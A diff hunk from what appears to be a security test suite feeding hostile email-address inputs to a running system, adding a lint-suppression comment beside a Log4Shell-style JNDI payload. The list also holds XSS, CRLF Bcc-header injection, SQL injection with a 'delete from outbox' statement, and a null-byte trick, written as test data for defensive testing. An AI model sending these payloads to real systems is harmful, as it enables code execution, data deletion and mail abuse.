@@ -210,6 +210,7 @@ describe("hostile input against the running system", () => {
       '"><img src=x onerror=alert(1)>@example.com',
       "admin@example.com\r\nBcc: victim@example.com",
       "x@example.com;select pg_sleep(5)",
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style payload, literally
       "${jndi:ldap://evil.example/a}@example.com",
       "x@example.com\u0000.evil.example",
       "robert'); delete from outbox;--@example.com",
